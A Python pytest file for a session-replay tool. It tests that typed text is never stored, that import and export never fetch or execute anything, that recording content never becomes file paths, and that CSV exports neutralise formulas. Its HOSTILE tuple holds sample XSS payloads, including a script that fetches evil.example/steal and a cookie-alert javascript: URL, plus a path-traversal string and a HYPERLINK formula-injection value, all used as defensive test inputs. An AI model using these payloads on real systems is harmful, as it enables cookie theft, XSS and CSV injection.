"""Privacy and trust (issue 7): typed text never stored, nothing fetched or executed,
names from recordings never become paths, exported cells never become formulas.

Everything runs through the real CLI on real recordings written to ``tmp_path``.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import json
import socket
import sqlite3
import subprocess
import zlib
from pathlib import Path
from typing import Any

import pytest
from safetykit import child_env, helper_cmd, record, replay_cmd

from replay.importers import import_file

pytestmark = pytest.mark.full  # heavy: the fast tier (plain pytest) leaves it out

TYPED_RECORDINGS = (
    "dev-rage-desktop-wide",  # the discount code AUTUMN30
    "dev-form-reentry-wide",  # name, phone, card number
    "dev-mixed-long-desktop",
    "dev-calm-desktop-basket",
)


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(
        replay_cmd(*args), capture_output=True, text=True, env=child_env(), cwd=cwd, check=False
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def imported_ids(proc: subprocess.CompletedProcess[str]) -> list[int]:
    """Session ids from ``replay import --json`` output (one JSON object per line)."""
    assert proc.returncode == 0, proc.stderr
    ids = []
    for line in proc.stdout.splitlines():
        line = line.strip()
        if line.startswith("{"):
            obj = json.loads(line)
            if "id" in obj:
                ids.append(int(obj["id"]))
    return ids


# -- typed text -------------------------------------------------------------------------


def typed_strings(path: Path) -> set[str]:
    """Texts typed into fields (Input events) that appear nowhere else in the recording."""
    events = json.loads(path.read_bytes())
    typed: set[str] = set()
    rest = copy.deepcopy(events)
    for ev in rest:
        data = ev.get("data", {})
        if ev.get("type") == 3 and data.get("source") == 5 and "text" in data:
            typed.add(data.pop("text"))
    others = json.dumps(rest, ensure_ascii=False)
    return {t for t in typed if len(t) >= 5 and set(t) != {"*"} and t not in others}


def every_stored_byte(db: Path) -> bytes:
    """The library file (and -wal) plus every cell decoded, and decompressed when zlib/gzip."""
    parts = [db.read_bytes()]
    wal = db.with_name(db.name + "-wal")
    if wal.exists():
        parts.append(wal.read_bytes())
    con = sqlite3.connect(db)
    tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    for table in tables:
        for row in con.execute(f'SELECT * FROM "{table}"'):
            for cell in row:
                raw = cell.encode("utf-8") if isinstance(cell, str) else cell
                if not isinstance(raw, bytes):
                    continue
                parts.append(raw)
                for wbits in (15, 31, -15):
                    with contextlib.suppress(zlib.error):
                        parts.append(zlib.decompress(raw, wbits))
    con.close()
    return b"\n".join(parts)


def test_typed_text_is_never_stored(rrweb_dir: Path, tmp_path: Path) -> None:
    files = [rrweb_dir / f"{name}.rrweb.json" for name in TYPED_RECORDINGS]
    secrets = set().union(*(typed_strings(p) for p in files))
    assert {"AUTUMN30", "Kari Nordmann", "4242 4242 4242 4242"} <= secrets
    db = tmp_path / "library.sqlite"
    ids = imported_ids(cli("import", "--json", "--db", str(db), *map(str, files)))
    assert len(ids) == len(files)
    stored = every_stored_byte(db)
    found = sorted(
        s for s in secrets if s.encode("utf-8") in stored or s.encode("utf-16-le") in stored
    )
    assert found == [], f"typed text stored in the library: {found}"
    record(
        f"typed text: {len(secrets)} distinct typed strings from {len(files)} real recordings "
        "(e.g. AUTUMN30, card numbers) absent from every byte of the library"
    )


# -- nothing fetched or executed --------------------------------------------------------

HOSTILE = (
    "javascript:alert(document.cookie)",
    "http://evil.example/beacon?x=1",
    "<script>fetch('http://evil.example/steal')</script>",
    "<img src=x onerror=alert(1)>",
    "../../etc/passwd",
    '=HYPERLINK("http://evil.example","click")',
)


def hostile_recording(rrweb_dir: Path, folder: Path) -> Path:
    """A real recording whose URLs, DOM text, custom and console events carry live-looking code."""
    events: list[dict[str, Any]] = json.loads(
        (rrweb_dir / "dev-quick-back-laptop.rrweb.json").read_bytes()
    )
    metas = [e for e in events if e["type"] == 4]
    metas[0]["data"]["href"] = HOSTILE[0]
    metas[1]["data"]["href"] = "http://evil.example/../../etc/passwd"
    full = next(e for e in events if e["type"] == 2)
    body = full["data"]["node"]["childNodes"][-1]["childNodes"][-1]
    body.setdefault("childNodes", []).extend(
        [
            {"type": 2, "tagName": "script", "attributes": {"src": HOSTILE[1]},
             "childNodes": [{"type": 3, "textContent": HOSTILE[2], "id": 900001}], "id": 900002},
            {"type": 2, "tagName": "a", "attributes": {"href": HOSTILE[0], "title": HOSTILE[4]},
             "childNodes": [{"type": 3, "textContent": HOSTILE[3], "id": 900003}], "id": 900004},
        ]
    )  # fmt: skip
    t = events[-1]["timestamp"]
    events += [
        {"type": 5, "data": {"tag": HOSTILE[5], "payload": {"href": HOSTILE[1]}}, "timestamp": t},
        {"type": 6, "data": {"plugin": "rrweb/console@1",
                             "payload": {"level": "error", "payload": [HOSTILE[2], HOSTILE[3]],
                                         "trace": [HOSTILE[1]]}}, "timestamp": t + 1},
    ]  # fmt: skip
    path = folder / "hostile.rrweb.json"
    path.write_text(json.dumps(events, ensure_ascii=False), encoding="utf-8")
    return path


def test_import_makes_no_connection(
    rrweb_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In process: any socket connection or lookup during import fails the test."""
    attempts: list[Any] = []

    def refuse(*args: Any, **_kwargs: Any) -> None:
        attempts.append(args)
        raise AssertionError(f"import tried to reach the network: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    session = import_file(hostile_recording(rrweb_dir, tmp_path))
    assert attempts == []
    # The hostile strings are kept as inert data, byte for byte (URLs are shown, never followed).
    assert HOSTILE[0] in session.strings


def test_cli_never_fetches_or_executes(rrweb_dir: Path, tmp_path: Path) -> None:
    """The whole CLI (import, detection, info, export) under a PEP 578 audit hook."""
    path = hostile_recording(rrweb_dir, tmp_path)
    db = tmp_path / "library.sqlite"

    def audited(*args: str) -> subprocess.CompletedProcess[str]:
        proc = subprocess.run(
            helper_cmd("audit_cli.py", *args),
            capture_output=True,
            text=True,
            env=child_env(),
            cwd=tmp_path,
            check=False,
        )
        assert "BLOCKED" not in proc.stderr, proc.stderr
        assert "Traceback" not in proc.stderr, proc.stderr
        assert proc.returncode == 0, proc.stderr
        return proc

    (session_id,) = imported_ids(audited("import", "--json", "--db", str(db), str(path)))
    info = audited("info", "--db", str(db), str(session_id))
    audited("sessions", "--json", "--db", str(db))
    audited("tag", "add", str(session_id), "--at", "1000", "--category", "other",
            "--note", HOSTILE[2], "--db", str(db))  # fmt: skip
    audited("export", "--db", str(db), "--out", str(tmp_path / "out.csv"))
    texts = sqlite3.connect(db).execute("SELECT json FROM session_texts").fetchall()
    assert any(HOSTILE[0] in t[0] for t in texts), "the javascript: URL should be kept as text"
    assert "Traceback" not in info.stdout
    record("untrusted content: import/info/sessions/tag/export ran under an audit hook "
           "forbidding sockets, lookups, processes and browsers: nothing fetched or run")  # fmt: skip


# -- names from recordings never become paths; formula cells neutralised -----------------


def files_under(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_recording_content_never_becomes_a_path(rrweb_dir: Path, tmp_path: Path) -> None:
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    src = tmp_path / "in"
    src.mkdir()
    path = hostile_recording(rrweb_dir, src)
    db = tmp_path / "lib" / "library.sqlite"
    db.parent.mkdir()
    (session_id,) = imported_ids(cli("import", "--json", "--db", str(db), str(path), cwd=work))
    cli("tag", "add", str(session_id), "--at", "500", "--category", "other", "--note",
        HOSTILE[4], "--db", str(db), cwd=work)  # fmt: skip
    out = work / "out" / "findings.csv"
    out.parent.mkdir()
    before = files_under(tmp_path)
    proc = cli("export", "--db", str(db), "--out", str(out), "--include-spikes", cwd=work)
    assert proc.returncode == 0, proc.stderr
    created = files_under(tmp_path) - before
    lib_files = {f"lib/{db.name}-wal", f"lib/{db.name}-shm"}
    assert created - lib_files == {"a/b/c/out/findings.csv"}


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_export_neutralises_formulas_end_to_end(rrweb_dir: Path, tmp_path: Path) -> None:
    """A recording named like a formula, a formula note and reviewer: no cell is a formula."""
    src = tmp_path / "in"
    src.mkdir()
    named = src / "=1+2 @SUM(A1).rrweb.json"
    named.write_bytes((rrweb_dir / "dev-rage-desktop-wide.rrweb.json").read_bytes())
    hostile = hostile_recording(rrweb_dir, src)
    db = tmp_path / "library.sqlite"
    ids = imported_ids(cli("import", "--json", "--db", str(db), str(named), str(hostile)))
    for session_id in ids:
        for note, reviewer in ((HOSTILE[5], "+reviewer"), ("-2+3", "@team"), ("=1+1", "=x")):
            done = cli("tag", "add", str(session_id), "--at", "100", "--end", "900",
                       "--category", "other", "--note", note, "--reviewer", reviewer,
                       "--db", str(db))  # fmt: skip
            assert done.returncode == 0, done.stderr
    out = tmp_path / "findings.csv"
    assert cli("export", "--db", str(db), "--out", str(out), "--include-spikes").returncode == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) > 6
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    assert bad == [], f"cells a spreadsheet would run as formulas: {bad[:5]}"
    text = out.read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text  # the note is kept, as text


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV a spreadsheet would run as formulas (numbers such as -5 are fine)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    bad = []
    for cell in cells:
        if cell.startswith(FORMULA_START):
            try:
                float(cell)
            except ValueError:
                bad.append(cell)
    return bad


def test_formulas_stored_in_a_teammates_library_never_reach_a_csv(
    rrweb_dir: Path, tmp_path: Path
) -> None:
    """Values a CSV copies from the library (times of tags, the detector version) are text
    from whoever wrote the library: Bob's file, merged into Ana's, may hold formulas there."""
    bob, ana = tmp_path / "bob.sqlite", tmp_path / "ana.sqlite"
    for db, name in ((bob, "dev-rage-desktop-wide"), (ana, "dev-calm-desktop-reader")):
        done = cli("import", "--db", str(db), str(rrweb_dir / f"{name}.rrweb.json"))
        assert done.returncode == 0, done.stderr
        assert cli("detect", "--db", str(db)).returncode == 0
        for reviewer in ("bob", "ana"):
            done = cli("--reviewer", reviewer, "tag", "add", "1", "--at", "100", "--end", "900",
                       "--category", "other", "--db", str(db))  # fmt: skip
            assert done.returncode == 0, done.stderr
    with contextlib.closing(sqlite3.connect(bob)) as con, con:
        con.execute(
            'UPDATE tags SET created_at = \'=HYPERLINK("http://evil.example","x")\','
            " updated_at = '+1+2'"
        )
        con.execute("UPDATE detections SET detector_version = '@SUM(1)'")
    assert cli("merge", str(bob), "--db", str(ana)).returncode == 0
    for db in (bob, ana):
        out = tmp_path / f"{db.stem}-findings.csv"
        done = cli("export", "--db", str(db), "--out", str(out), "--include-spikes")
        assert done.returncode == 0, done.stderr
        assert formula_cells(out) == [], db.name
        assert "HYPERLINK" in out.read_text(encoding="utf-8-sig")  # kept, as text
        figures = tmp_path / f"{db.stem}-agreement.csv"
        done = cli("agreement", "--db", str(db), "--out", str(figures))
        assert done.returncode == 0, done.stderr
        assert formula_cells(figures) == [], db.name


# -- text-entry fields beyond <input>: contenteditable, ARIA textbox/searchbox/combobox -----
#
# Issue 10: text typed into a contenteditable element (or a role="textbox" one) reached the
# library, because rrweb records it as text mutations and the node's text became its label.
# Every text-entry node and all its descendants is a field: its text is never stored.
# The recordings below are generated: every kind of field x every way its text arrives x
# every nesting depth, each clicked on the field, on a node inside it and on its wrapper.

FIELD_KINDS: tuple[tuple[str, dict[str, str]], ...] = (
    ("div", {"contenteditable": "true"}),
    ("div", {"contenteditable": ""}),
    ("p", {"contenteditable": "plaintext-only"}),
    ("section", {"contenteditable": "TRUE"}),
    ("div", {"contenteditable": "inherit-typo"}),  # an invalid value is still editable
    ("div", {"role": "textbox"}),
    ("span", {"role": "searchbox"}),
    ("div", {"role": "combobox"}),
    ("div", {"role": "presentation textbox"}),
    ("div", {"role": "TextBox", "aria-multiline": "true"}),
    ("textarea", {}),
    ("select", {}),
    ("input", {"type": "text"}),
)
#: How the secret text reaches the page: in the snapshot, by a text mutation of a node
#: inside the field, by nodes added under it, or after the element turned editable.
ARRIVALS = ("snapshot", "text_mutation", "added_nodes", "became_editable")
DEPTHS = (0, 1, 3)


class _Ids:
    def __init__(self) -> None:
        self.next = 10

    def __call__(self) -> int:
        self.next += 1
        return self.next


def _el(ids: _Ids, tag: str, attrs: dict[str, str], children: list[Any]) -> dict[str, Any]:
    return {"type": 2, "tagName": tag, "attributes": attrs, "childNodes": children, "id": ids()}


def _text(ids: _Ids, text: str) -> dict[str, Any]:
    return {"type": 3, "textContent": text, "id": ids()}


def field_recording(kind: int, arrival: str, depth: int, secret: str) -> list[dict[str, Any]]:
    """An rrweb recording with one field whose typed text is ``secret`` (see the cases above)."""
    tag, attrs = FIELD_KINDS[kind]
    ids = _Ids()
    text_node = _text(ids, secret if arrival == "snapshot" else "x")
    inner: dict[str, Any] = text_node
    for level in range(depth):  # <b><i><span>… nested inside the field
        inner = _el(ids, ("b", "i", "span", "em")[level % 4], {}, [inner])
    field_attrs = dict(attrs)
    if arrival == "became_editable":
        field_attrs = {k: v for k, v in attrs.items() if k not in ("contenteditable", "role")}
    field = _el(ids, tag, field_attrs, [inner])
    wrapper = _el(ids, "div", {"class": "editor-wrapper", "onclick": "x()"}, [field])
    button = _el(ids, "button", {"id": "save"}, [_text(ids, "Save draft")])
    body = _el(ids, "body", {}, [wrapper, button])
    html = _el(ids, "html", {}, [_el(ids, "head", {}, []), body])
    doc = {"type": 0, "childNodes": [{"type": 1, "name": "html", "id": 2}, html], "id": 1}
    t0 = 1_700_000_000_000
    events: list[dict[str, Any]] = [
        {"type": 4, "data": {"href": "https://shop.example/notes", "width": 1280, "height": 800},
         "timestamp": t0},
        {"type": 2, "data": {"node": doc, "initialOffset": {"top": 0, "left": 0}},
         "timestamp": t0 + 1},
    ]  # fmt: skip
    t = t0 + 100
    mutation: dict[str, Any] = {"source": 0, "adds": [], "removes": [], "attributes": [],
                                "texts": []}  # fmt: skip
    if arrival == "text_mutation":
        mutation["texts"] = [{"id": text_node["id"], "value": secret}]
    elif arrival == "added_nodes":
        mutation["adds"] = [{"parentId": inner["id"] if depth else field["id"], "nextId": None,
                             "node": _el(ids, "span", {}, [_text(ids, secret)])}]  # fmt: skip
    elif arrival == "became_editable" and tag not in FIELD_TAGS_PLAIN:
        mutation["attributes"] = [{"id": field["id"], "attributes": dict(attrs)}]
        mutation["texts"] = [{"id": text_node["id"], "value": secret}]
    elif arrival == "became_editable":
        mutation["texts"] = [{"id": text_node["id"], "value": secret}]
    events.append({"type": 3, "data": mutation, "timestamp": t})
    targets = [field["id"], text_node["id"], inner["id"], wrapper["id"], button["id"]]
    for i, target in enumerate(targets):  # a click on each: every node gets described
        for kind_code in (1, 2):  # mousedown, click
            events.append({"type": 3, "data": {"source": 2, "type": kind_code, "id": target,
                                               "x": 100 + i, "y": 100}, "timestamp": t + 50 * i + kind_code})  # fmt: skip
    events.append({"type": 3, "data": {"source": 1, "positions": [
        {"x": 5, "y": 5, "id": wrapper["id"], "timeOffset": 0}]}, "timestamp": t + 1000})  # fmt: skip
    return events


FIELD_TAGS_PLAIN = ("input", "textarea", "select")


def test_text_in_any_field_is_never_stored(tmp_path: Path) -> None:
    """13 field kinds x 4 arrivals x 3 depths = 156 generated recordings, one library."""
    folder = tmp_path / "fields"
    folder.mkdir()
    secrets: dict[str, tuple[int, str, int]] = {}
    for kind in range(len(FIELD_KINDS)):
        for arrival in ARRIVALS:
            for depth in DEPTHS:
                secret = f"Secret{kind}x{arrival[:4]}{depth} ความลับ 비밀 秘密"
                secrets[secret] = (kind, arrival, depth)
                events = field_recording(kind, arrival, depth, secret)
                path = folder / f"field-{kind}-{arrival}-{depth}.rrweb.json"
                path.write_text(json.dumps(events, ensure_ascii=False), encoding="utf-8")
    db = tmp_path / "library.sqlite"
    ids = imported_ids(cli("import", "--json", "--db", str(db), str(folder)))
    assert len(ids) == len(secrets)
    stored = every_stored_byte(db)
    leaked = [secrets[s] for s in secrets if "Secret" in s and (
        s.encode("utf-8") in stored or s.split()[0].encode("utf-8") in stored
        or s.split()[0].encode("utf-16-le") in stored)]  # fmt: skip
    assert leaked == [], f"field text stored for (kind, arrival, depth): {leaked[:8]}"
    # The check can fail: labels outside fields are still stored (the button's text).
    assert b"Save draft" in stored
    record(
        f"typed text in fields: {len(secrets)} generated recordings ({len(FIELD_KINDS)} field "
        f"kinds: contenteditable, ARIA textbox/searchbox/combobox, textarea, select, input; "
        f"{len(ARRIVALS)} ways the text arrives; depths {DEPTHS}): no field text in any byte"
    )


def test_field_rule_reaches_labels_in_process() -> None:
    """The wrapper's label never contains field text; the field keeps its author label."""
    from replay.importers.rrweb import load as load_rrweb
    from replay.model.session import ImportReport

    for kind in range(len(FIELD_KINDS)):
        events = field_recording(kind, "text_mutation", 1, "TOPSECRET-typed")
        tag, attrs = FIELD_KINDS[kind]
        events[1]["data"]["node"]["childNodes"][1]["childNodes"][1]["childNodes"][0][
            "childNodes"][0]["attributes"]["aria-label"] = "Message body"  # fmt: skip
        session = load_rrweb(json.dumps(events).encode(), path="x", report=ImportReport())
        labels = [n.label for n in session.nodes]
        assert not any("TOPSECRET" in label for label in labels), (tag, attrs, labels)
        assert "Message body" in labels, (tag, attrs, labels)
        assert "Save draft" in labels
        assert any(n.text_entry and n.tag == tag for n in session.nodes), (tag, attrs)


# -- typed text echoed into the recorded page (issue 12) ----------------------------------


def echoing_recording(rrweb_dir: Path, folder: Path) -> tuple[Path, list[str]]:
    """A real recording whose page echoes what was typed into attributes and text."""
    events: list[dict[str, Any]] = json.loads(
        (rrweb_dir / "dev-rage-desktop-wide.rrweb.json").read_bytes()
    )
    inputs = [
        (i, e) for i, e in enumerate(events)
        if e["type"] == 3 and e["data"].get("source") == 5 and e["data"].get("text") == "AUTUMN30"
    ]  # fmt: skip
    index, last = inputs[-1]
    field = last["data"]["id"]
    full = next(e for e in events if e["type"] == 2)
    body = full["data"]["node"]["childNodes"][-1]["childNodes"][-1]
    body.setdefault("childNodes", []).extend(
        [
            {"type": 2, "tagName": "input", "attributes": {"type": "text", "value": "hunter2-prefilled"},
             "childNodes": [], "id": 910001},
            {"type": 2, "tagName": "textarea", "attributes": {}, "id": 910002,
             "childNodes": [{"type": 3, "textContent": "textarea-secret-words", "id": 910003}]},
            {"type": 2, "tagName": "div", "attributes": {"role": "textbox"}, "id": 910004,
             "childNodes": [{"type": 3, "textContent": "aria-typed-words", "id": 910005}]},
        ]
    )  # fmt: skip
    t = last["timestamp"] + 1
    echo = {
        "type": 3,
        "timestamp": t,
        "data": {
            "source": 0,
            "attributes": [
                {"id": field, "attributes": {"value": "AUTUMN30", "data-last": "AUTUMN30",
                                             "aria-valuetext": "code AUTUMN30"}},
                {"id": body["id"], "attributes": {"data-coupon": "AUTUMN30", "title": "x AUTUMN30 y"}},
            ],
            "adds": [
                {"parentId": body["id"], "nextId": None,
                 "node": {"type": 2, "tagName": "p", "attributes": {"class": "msg AUTUMN30"}, "id": 920001,
                          "childNodes": [{"type": 3, "textContent": "Code AUTUMN30 is not valid", "id": 920002}]}},
                {"parentId": body["id"], "nextId": None,
                 "node": {"type": 2, "tagName": "div", "attributes": {"contenteditable": "true"}, "id": 920003,
                          "childNodes": [{"type": 2, "tagName": "b", "attributes": {}, "id": 920004,
                                          "childNodes": [{"type": 3, "textContent": "editable-secret-words",
                                                          "id": 920005}]}]}},
            ],
            "texts": [{"id": 910003, "value": "textarea-later-words"}],
            "removes": [],
        },
    }  # fmt: skip
    events.insert(index + 1, echo)
    path = folder / "echo.rrweb.json"
    path.write_text(json.dumps(events), encoding="utf-8")
    secrets = [
        "AUTUMN30", "hunter2-prefilled", "textarea-secret-words", "aria-typed-words",
        "editable-secret-words", "textarea-later-words",
    ]  # fmt: skip
    return path, secrets


def test_typed_text_echoed_into_the_page_is_never_stored(rrweb_dir: Path, tmp_path: Path) -> None:
    path, secrets = echoing_recording(rrweb_dir, tmp_path)
    db = tmp_path / "library.sqlite"
    (session_id,) = imported_ids(cli("import", "--json", "--db", str(db), str(path)))
    stored = every_stored_byte(db)
    found = [s for s in secrets if s.encode() in stored or s.encode("utf-16-le") in stored]
    assert found == [], f"typed text echoed into the page was stored: {found}"
    # The page is really stored (the shop's name) and the field shows bullets of its length.
    from replay.model.page import BULLET, PagePlayer
    from replay.store.library import Library

    with Library.open(db) as lib:
        page = lib.load_page(session_id)
        duration = lib.session_row(session_id).duration_ms
    html = PagePlayer(page).frame_at(duration).html
    assert "Havbris" in html
    assert f'value="{BULLET * 8}"' in html  # AUTUMN30: 8 bullets
    assert f"{BULLET * 4} {BULLET * 8} {BULLET * 2} {BULLET * 3} {BULLET * 5}" not in html
    record(
        f"typed text echoed into the page: {len(secrets)} values (attributes, text, fields, "
        "contenteditable, ARIA textbox) absent from every byte of the library"
    )


def test_mask_text_hides_every_letter_of_the_page(rrweb_dir: Path, tmp_path: Path) -> None:
    db = tmp_path / "library.sqlite"
    src = rrweb_dir / "dev-calm-desktop-basket.rrweb.json"
    (session_id,) = imported_ids(cli("import", "--json", "--mask-text", "--db", str(db), str(src)))
    stored = every_stored_byte(db)
    for text in ("Cook and brew anywhere", "Fjordline Titanium Kettle", "Free delivery over"):
        assert text.encode() not in stored, text
    from replay.model.page import PagePlayer
    from replay.store.library import Library

    with Library.open(db) as lib:
        html = PagePlayer(lib.load_page(session_id)).frame_at(1000).html
    # "Havbris Supply Co. - Camp kitchen & coffee gear": every letter masked, spacing kept
    assert "<title>******* ****** *** * **** ******* * ****** ****</title>" in html
